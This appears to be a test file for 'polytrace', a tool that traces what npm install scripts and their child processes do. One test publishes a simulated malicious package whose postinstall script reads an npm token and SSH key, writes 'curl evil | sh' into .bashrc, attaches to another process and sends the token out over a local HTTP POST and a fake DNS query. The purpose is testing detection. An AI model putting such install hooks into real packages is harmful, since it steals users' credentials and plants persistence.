/** `run`: attacks of packages that npm installs are seen, belong to their package, and are new against the lock file. */
import assert from 'node:assert/strict';
import { execFileSync, spawn } from 'node:child_process';
import { createSocket } from 'node:dgram';
import { chmodSync, existsSync, mkdirSync, mkdtempSync, readFileSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Behavior, BehaviorKind, RunOptions, RunSummary } from '../../types/index.js';
import { needsRoot, polytrace } from './support.js';
import { Registry, type TestPackage } from './run/registry.js';

describe('run', function () {
  this.timeout(90_000);
  before(needsRoot);
  before(function () {
    if (process.arch !== 'x64') this.skip();
  });

  let shop: string;
  let registry: Registry;
  let attacks: Buffer;
  before(async () => {
    shop = realpathSync(mkdtempSync(join(tmpdir(), 'polytrace-run-')));
    registry = await Registry.start(mkdtempSync(join(shop, 'registry-')));
    const program = join(shop, 'attacks');
    execFileSync('cc', ['-static', '-O1', '-o', program, join(__dirname, 'run', 'attacks.c')]);
    attacks = readFileSync(program);
  });
  after(async () => {
    await registry?.stop();
    rmSync(shop, { recursive: true, force: true });
  });

  /** A folder for a project, with a home. */
  function makeProject(dependencies: readonly string[] = []): { readonly folder: string; readonly env: Record<string, string> } {
    const folder = mkdtempSync(join(shop, 'project-'));
    const home = mkdtempSync(join(shop, 'home-'));
    mkdirSync(join(home, '.ssh'));
    writeFileSync(join(home, '.npmrc'), '//registry.invalid/:_authToken=secret\n');
    writeFileSync(join(home, '.ssh', 'id_rsa'), 'secret');
    writeFileSync(join(home, 'tool'), '');
    const manifest = { name: 'project', version: '1.0.0', dependencies: Object.fromEntries(dependencies.map((name) => [name, '*'])) };
    writeFileSync(join(folder, 'package.json'), JSON.stringify(manifest));
    const env = { PATH: process.env['PATH'] ?? '', HOME: home, npm_config_registry: registry.url, npm_config_audit: 'false', npm_config_fund: 'false', npm_config_update_notifier: 'false' };
    return { folder, env };
  }

  async function runIn(cwd: string, command: readonly string[], options: Omit<RunOptions, 'cwd'>): Promise<[RunSummary, readonly Behavior[]]> {
    const handle = await polytrace.run(command, { cwd, ...options });
    return [await handle.summary, await handle.violations];
  }

  const subjects = ({ behaviors }: Pick<RunSummary, 'behaviors'>, kind: BehaviorKind, name?: string): string[] =>
    behaviors.filter((each) => each.kind === kind && each.package === name).map(({ subject }) => subject);

  it('what a command and its descendants do, also after setsid and a double fork', async () => {
    const { folder, env } = makeProject();
    const script = `
echo inside > inside; echo x > ${env['HOME']}/.bashrc; cat ${env['HOME']}/.ssh/id_rsa
chmod +x ${env['HOME']}/tool; mv ${env['HOME']}/tool ${env['HOME']}/moved; rm ${env['HOME']}/moved
( setsid sh -c '( sh -c "echo deep > ${env['HOME']}/deep" & ) ; wait' ); exit 7`;
    const [summary] = await runIn(folder, ['sh', '-c', script], { env });
    const home = env['HOME'] ?? '';
    assert.equal(summary.exitCode, 7);
    assert.deepEqual(subjects(summary, 'secret'), [`${home}/.ssh/id_rsa`]);
    assert.deepEqual(subjects(summary, 'write'), [`${home}/.bashrc`, `${home}/deep`]);
    assert.deepEqual(subjects(summary, 'mode'), [`${home}/tool (executable)`]);
    assert.deepEqual(subjects(summary, 'rename'), [`${home}/tool → ${home}/moved`]);
    assert.deepEqual(subjects(summary, 'remove'), [`${home}/moved`]);
    assert.equal(summary.lost, 0);
  });

  it('processes that outlive the command are named, and killed if that is wanted', async () => {
    const { folder, env } = makeProject();
    const script = `(setsid sleep 300 > /dev/null 2>&1 < /dev/null &)`;
    const [kept] = await runIn(folder, ['sh', '-c', script], { env });
    assert.deepEqual(kept.remaining.map(({ killed }) => killed), [false]);
    const pid = kept.remaining[0]?.pid ?? 0;
    assert.ok(existsSync(`/proc/${pid}`));
    process.kill(pid, 'SIGKILL');
    const [killed] = await runIn(folder, ['sh', '-c', script], { env, killRemaining: true });
    assert.deepEqual(killed.remaining.map((each) => each.killed), [true]);
  });

  it('other processes are not reported; ten runs at once do not mix', async () => {
    const other = spawn('sh', ['-c', `while :; do echo x > ${shop}/other; cat /etc/hostname; done`], { stdio: 'ignore' });
    try {
      const projects = Array.from({ length: 10 }, () => makeProject());
      const summaries = await Promise.all(
        projects.map(({ folder, env }, i) => runIn(folder, ['sh', '-c', `echo x > ${shop}/file-${i}`], { env })),
      );
      assert.deepEqual(
        summaries.map(([summary]) => subjects(summary, 'write')),
        projects.map((_, i) => [`${shop}/file-${i}`]),
      );
    } finally {
      other.kill('SIGKILL');
    }
  });

  it('a package that changes: each attack is seen, belongs to the package, and is new against the lock file', async () => {
    const server = createServer((request, response) => void request.resume().on('end', () => response.end('thanks')));
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const { port } = server.address() as AddressInfo;
    const resolver = createSocket('udp4');
    const victim = spawn('sleep', ['300']);
    try {
      const { folder, env } = makeProject(['nice']);
      const home = env['HOME'] ?? '';
      const lock = join(folder, 'polytrace-lock.yaml');
      const harmless: TestPackage = { name: 'nice', scripts: { postinstall: 'node -e 0' } };
      registry.publish(harmless);
      const install = ['npm', 'install', '--no-package-lock', '--foreground-scripts'];
      const [first] = await runIn(folder, install, { env, lock });
      assert.equal(first.exitCode, 0);
      const text = readFileSync(lock, 'utf8');
      assert.match(text, /^ {2}"nice":$/m);
      rmSync(join(folder, 'node_modules'), { recursive: true });
      rmSync(join(home, '.npm'), { recursive: true, force: true });
      const [, again] = await runIn(folder, install, { env, lock });
      assert.deepEqual(again.map(({ fact }) => fact), []);

      const attack = `
const { execFileSync, spawn } = require('node:child_process');
const { readFileSync, writeFileSync } = require('node:fs');
const home = ${JSON.stringify(home)};
const body = readFileSync(home + '/.npmrc');
writeFileSync(home + '/.bashrc', 'curl evil | sh');
const tool = __dirname + '/attacks';
execFileSync(tool, ['raw', home + '/.ssh/id_rsa', __dirname + '/attacks.js', home + '/tool']);
execFileSync(tool, ['ptrace', '${victim.pid ?? 0}']);
execFileSync(tool, ['memory']);
spawn('setsid', ['sleep', '300'], { detached: true, stdio: 'ignore' }).unref();
const socket = require('node:dgram').createSocket('udp4');
const name = [9, ...Buffer.from('deadbeef0'), 4, ...Buffer.from('evil'), 7, ...Buffer.from('invalid'), 0];
socket.send(Buffer.from([1, 2, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0, ...name, 0, 16, 0, 1]), 53, '127.0.0.1', () => socket.close());
require('node:http').request({ port: ${port}, host: '127.0.0.1', method: 'POST' }, (r) => r.resume()).end(body);`;
      registry.publish({ ...harmless, version: '1.0.1', scripts: { postinstall: 'node index.js' }, files: { 'index.js': attack, attacks, 'attacks.js': '' } });
      rmSync(join(folder, 'node_modules'), { recursive: true });
      rmSync(join(home, '.npm'), { recursive: true, force: true });
      const [summary, violations] = await runIn(folder, install, { env, lock, killRemaining: true });
      const seen = (kind: BehaviorKind): string[] => subjects({ behaviors: violations }, kind, 'nice');
      assert.equal(summary.exitCode, 0);
      assert.deepEqual(seen('secret'), [`${home}/.npmrc`, `${home}/.ssh/id_rsa`].sort());
      assert.deepEqual(seen('write'), [`${home}/.bashrc`]);
      assert.deepEqual(seen('dns'), ['deadbeef0.evil.invalid']);
      const posted = violations.find(({ kind, package: name }) => kind === 'connect' && name === 'nice');
      assert.equal(posted?.subject, `127.0.0.1:${port}`);
      assert.ok((posted.sent ?? 0) > 40 && (posted.received ?? 0) > 0, JSON.stringify(posted));
      assert.equal(posted.script, 'postinstall');
      const memory = seen('memory').join('\n');
      for (const part of [/ptrace attach of .*sleep .* outside of the run/, /read \/proc\/\d+\/environ of .*node/, /read \/proc\/\d+\/mem of/, /read memory of/])
        assert.match(memory, part);
      assert.ok(seen('rename').some((subject) => subject.endsWith(`→ ${home}/tool`)), seen('rename').join());
      assert.deepEqual(summary.remaining.map(({ binary, killed }) => [binary.endsWith('/sleep'), killed]), [[true, true]]);
      assert.match(polytrace.formatRunSummary(summary, 'text', violations), /\+ nice: postinstall: write \$HOME\/\.bashrc\n.*npm/);
    } finally {
      victim.kill('SIGKILL');
      resolver.close();
      server.close();
    }
  });

  it('a command that does not exist, and one that may not be executed', async () => {
    const { folder, env } = makeProject();
    const file = join(folder, 'plain');
    writeFileSync(file, '');
    chmodSync(file, 0o644);
    await assert.rejects((await polytrace.run(['no-such-program'], { cwd: folder, env })).summary, { code: 'RUN_FAILED', status: 127 });
    await assert.rejects((await polytrace.run([file], { cwd: folder, env })).summary, { code: 'RUN_FAILED', status: 126 });
  });

  it('events, AbortSignal and the user', async () => {
    const { folder, env } = makeProject();
    chmodSync(shop, 0o755);
    chmodSync(folder, 0o777);
    const stop = new AbortController();
    const handle = await polytrace.run(['sh', '-c', 'id -u > me; exec sleep 300'], { cwd: folder, env, user: 65_534, signal: stop.signal });
    const binaries: string[] = [];
    for await (const event of handle) {
      if (event.type !== 'process_exec') continue;
      binaries.push(event.process.binary.split('/').at(-1) ?? '');
      if (event.process.binary.endsWith('/sleep')) stop.abort();
    }
    const summary = await handle.summary;
    assert.deepEqual([summary.exitCode, summary.signal], [143, 15]);
    assert.deepEqual(binaries, ['sh', 'id', 'sleep']);
    assert.equal(readFileSync(join(folder, 'me'), 'utf8').trim(), '65534');
  });
});
